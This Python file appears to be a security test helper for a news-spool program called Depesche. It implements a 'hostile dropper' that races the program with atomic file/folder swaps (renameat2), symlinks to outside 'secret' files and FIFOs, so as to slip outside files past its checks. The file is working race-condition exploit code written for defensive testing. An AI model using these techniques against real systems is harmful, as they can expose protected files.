"""A hostile dropper, as a program of its own: ``dropper.py WAY UID INBOX OUTSIDE SECONDS``.

It owns its folder in the inbox and may do nothing else. It imports nothing of Depesche, and becomes
its user before it does anything.
"""

from __future__ import annotations

import ctypes
import os
import sys
import time
from contextlib import suppress
from pathlib import Path

_RENAME_EXCHANGE = 2
_NAMES = 12
_FOLDER = os.O_RDONLY | os.O_DIRECTORY
_libc = ctypes.CDLL(None, use_errno=True)

ARTICLE = " date 2024-06-19 Probe : Köder {}\n\nDer Vorspann {}.\n\nIn Dessau ein Köder {}.\n"


def exchange(folder: int, one: str, other: str) -> bool:
    """Let two names change places, atomically; false where one of them is not there."""
    names = os.fsencode(one), os.fsencode(other)
    return not _libc.renameat2(folder, names[0], folder, names[1], _RENAME_EXCHANGE)


def _write(folder: int, name: str, mark: object) -> None:
    handle = os.open(name, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644, dir_fd=folder)
    os.write(handle, ARTICLE.format(mark, mark, mark).encode())
    os.close(handle)
    os.utime(name, (1.7e9, 1.7e9), dir_fd=folder)


class Exchanger:
    """A file and a folder change places under a file's name: may the folder get into the spool.

    It keeps each folder open, and makes links and folders change places inside it, wherever it is.
    """

    def __init__(self, home: int, outside: str) -> None:
        self.home, self.outside = home, outside
        self.folders: list[int] = []

    def make(self, number: int) -> None:
        """A file, and a folder in which a name leads out of everything."""
        with suppress(OSError):
            _write(self.home, f"x{number}.txt", number)
        with suppress(OSError):
            os.mkdir(f"x{number}.part", 0o777, dir_fd=self.home)
            folder = os.open(f"x{number}.part", _FOLDER, dir_fd=self.home)
            os.fchmod(folder, 0o777)
            os.mkdir("tief", 0o777, dir_fd=folder)
            below = os.open("tief", _FOLDER, dir_fd=folder)
            _write(below, "geheim.txt", f"tief {number}")
            os.close(below)
            os.symlink(self.outside, "weg", dir_fd=folder)
            os.symlink(f"{self.outside}/geheim.txt", "verweis.txt", dir_fd=folder)
            os.mkfifo("rohr.txt", dir_fd=folder)
            self.folders = [*self.folders[-200:], folder]

    def step(self, number: int) -> None:
        """One change of places."""
        for each in range(_NAMES):
            if not exchange(self.home, f"x{each}.txt", f"x{each}.part"):
                self.make(each)
        for folder in self.folders:
            exchange(folder, "tief", "weg")


class Swapper:
    """Links take the place of a folder, and of files, between the look and the claim."""

    def __init__(self, home: int, outside: str) -> None:
        self.home, self.outside = home, outside

    def step(self, number: int) -> None:
        """One change of places, or all made anew."""
        if not exchange(self.home, "ordner", "ordner.part"):
            self._make_folder()
        else:
            with suppress(OSError):
                self._fill()
        for each in range(_NAMES):
            if not exchange(self.home, f"brief{each}.txt", f"brief{each}.part"):
                self._make_link(each)

    def _make_folder(self) -> None:
        with suppress(OSError):
            os.mkdir("ordner", 0o777, dir_fd=self.home)
        with suppress(OSError):
            os.symlink(self.outside, "ordner.part", dir_fd=self.home)

    def _fill(self) -> None:
        folder = os.open("ordner", _FOLDER | os.O_NOFOLLOW, dir_fd=self.home)
        for name in ("geheim.txt", "zweiter.txt"):
            with suppress(OSError):
                _write(folder, name, name)
        os.close(folder)

    def _make_link(self, each: int) -> None:
        with suppress(OSError):
            _write(self.home, f"brief{each}.txt", f"brief {each}")
        with suppress(OSError):
            if each % 3:
                os.symlink(f"{self.outside}/geheim.txt", f"brief{each}.part", dir_fd=self.home)
            else:
                os.mkfifo(f"brief{each}.part", dir_fd=self.home)


WAYS: dict[str, type[Exchanger] | type[Swapper]] = {"exchange": Exchanger, "swap": Swapper}


def main(way: str, uid: int, inbox: str, outside: str, seconds: float) -> None:
    """Attack for so long; the number of steps goes to standard output."""
    if os.geteuid() == 0:
        os.setgroups([])
        os.setresgid(uid, uid, uid)
        os.setresuid(uid, uid, uid)
    os.umask(0)
    home = Path(inbox, way)
    home.mkdir(0o777, exist_ok=True)
    attacker = WAYS[way](os.open(home, _FOLDER), outside)
    end, steps = time.monotonic() + seconds, 0
    while time.monotonic() < end:
        attacker.step(steps)
        steps += 1
    print(steps)


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4], float(sys.argv[5]))
